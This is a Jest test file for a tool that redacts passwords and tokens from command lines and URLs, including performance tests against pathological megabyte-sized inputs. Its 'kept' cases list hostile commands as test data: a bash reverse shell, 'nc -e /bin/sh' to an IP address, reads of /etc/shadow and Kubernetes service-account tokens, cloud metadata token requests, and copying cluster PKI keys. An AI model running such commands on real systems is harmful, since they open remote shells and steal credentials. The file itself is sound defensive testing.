import { expect, test } from '@jest/globals';
import { safeCommand } from '../../../src/normalize/redact/command.ts';
import { REDACTED } from '../../../src/normalize/redact/marker.ts';
import { safeText, safeUri } from '../../../src/normalize/redact/text.ts';

const cut: [args: string[], safe: string[]][] = [
  [
    ['tool', '--password', 'x1'],
    ['tool', '--password', REDACTED],
  ],
  [
    ['tool', '--db-password=x1', '--verbose'],
    ['tool', `--db-password=${REDACTED}`, '--verbose'],
  ],
  [
    ['/usr/bin/mysql', '-uroot', '-px1'],
    ['/usr/bin/mysql', '-uroot', `-p${REDACTED}`],
  ],
  [
    ['sh', '-c', "TOKEN='x 1'  run"],
    ['sh', '-c', `TOKEN=${REDACTED}  run`],
  ],
  [
    ['curl', '-u', 'a:x1'],
    ['curl', '-u', REDACTED],
  ],
  [['curl https://a:x1@db/p'], [`curl https://a:${REDACTED}@db/p`]],
  [["tool --password 'two x1' --verbose"], [`tool --password ${REDACTED} --verbose`]],
  [["mysql -p'two x1' db"], [`mysql -p${REDACTED} db`]],
  [['which mysql && mysql -px1; cp -pr a b'], [`which mysql && mysql -p${REDACTED}; cp -pr a b`]],
  [['nice bash -c "mysql -px1 db" | cp -pr a b'], [`nice bash -c "mysql -p${REDACTED} db" | cp -pr a b`]],
  [
    ['bash', '-x', '-c', 'mysql -px1'],
    ['bash', '-x', '-c', `mysql -p${REDACTED}`],
  ],
  [
    ['curl', '-d', '{"user":"a","password":"x1"}'],
    ['curl', '-d', `{"user":"a","password":${REDACTED}}`],
  ],
  [
    ['curl', '-H', 'Authorization: token x1'],
    ['curl', '-H', `Authorization: token ${REDACTED}`],
  ],
  [
    ['curl', '-sSu', 'a:x1', '--user=a:x1'],
    ['curl', '-sSu', REDACTED, `--user=${REDACTED}`],
  ],
];
for (const [args, safe] of cut) {
  test(`cut: ${args.join(' ')}`, () => expect(safeCommand(args)).toEqual(safe));
}

const kept: string[][] = [
  ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
  [
    'sh',
    '-c',
    'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://api',
  ],
  ['sh', '-c', 'mysql -p$MYSQL_PASSWORD'],
  ['tool', '--token', '$TOKEN'],
  ['tool', '--token-file', '/run/token', '--password-stdin'],
  ['kubectl', 'get', 'secret', 'db', '-o', 'yaml'],
  ['tar', '-p', '-c', '/etc'],
  ['etcdctl', 'get', '/registry/secrets', '--prefix', '--keys-only'],
  ['sh', '-c', `cat /etc/shadow #${' a'.repeat(3_000)}`],
  ['sh', '-c', "secret='bash -i >& /dev/tcp/1.2.3.4/443 0>&1' && eval $secret"],
  ['sh', '-c', 'TOKEN="$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"; run'],
  ['sh', '-c', 'TOKEN=/var/run/secrets/kubernetes.io/serviceaccount/token; cat $TOKEN'],
  ['sh', '-c', 'TOKEN=`curl -X PUT http://169.254.169.254/latest/api/token`'],
  ['sh', '-c', 'TOKEN="`curl -X PUT http://169.254.169.254/latest/api/token`"'],
  ['sh', '-c', 'TOKEN= nc -e /bin/sh 1.2.3.4 443'],
  ['sh', '-c', 'echo token:\nnc -e /bin/sh 1.2.3.4 443'],
  ['sh', '-c', 'which mysql && cp -pr /etc/kubernetes/pki /tmp'],
  ['sh', '-c', 'echo mysql\ncp -pr /etc/kubernetes/pki /tmp'],
  ['cat', '--token', '/etc/shadow'],
  ['nc', '--token', '-e', '/bin/sh'],
  ['env', 'A=bypass', 'BYPASS=x', 'compass=n', '--bypass', 'x'],
  ['curl', '-sS', 'http://169.254.169.254:80/a@b'],
];
for (const args of kept) {
  test(`kept: ${args.join(' ')}`, () => expect(safeCommand(args)).toBe(args));
}

const hostile: [name: string, text: string][] = [
  ['names that never end', 'token-'.repeat(200_000)],
  ['beginnings of JSON web tokens', 'eyJ'.repeat(400_000)],
  ['beginnings of addresses', 'a://'.repeat(300_000)],
  ['spaces behind a scheme', `bearer${' '.repeat(1_000_000)}`],
  ['quotations that never end', 'token="'.repeat(150_000)],
  ['quotations and escapes', 'token="\\'.repeat(130_000)],
  ['escaped quotations', `"${'\\"'.repeat(500_000)}`],
  ['marks of both kinds', `a '"`.repeat(250_000)],
  ['one quotation', `password="${'a\\b'.repeat(300_000)}`],
  ['passwords of addresses', 'a://b:c'.repeat(140_000)],
  ['colons of an address', `a://${'b:'.repeat(500_000)}`],
  ['schemes', 'authorization: basic '.repeat(50_000)],
  ['blanks behind a name', `${'token'.padEnd(200, ' ')}`.repeat(5_000)],
  ['quoted shells', `sh -c "`.repeat(140_000)],
  ['encoded names', `?${'%'.repeat(500)}&`.repeat(2_000)],
];
for (const [name, text] of hostile) {
  test(`a megabyte of ${name} takes time in proportion to its length`, () => {
    expect(safeText(text).length).toBeGreaterThan(0);
    expect(safeUri(`/a?${text}`).length).toBeGreaterThan(0);
    expect(safeCommand(['sh', '-c', text])).toHaveLength(3);
  });
}
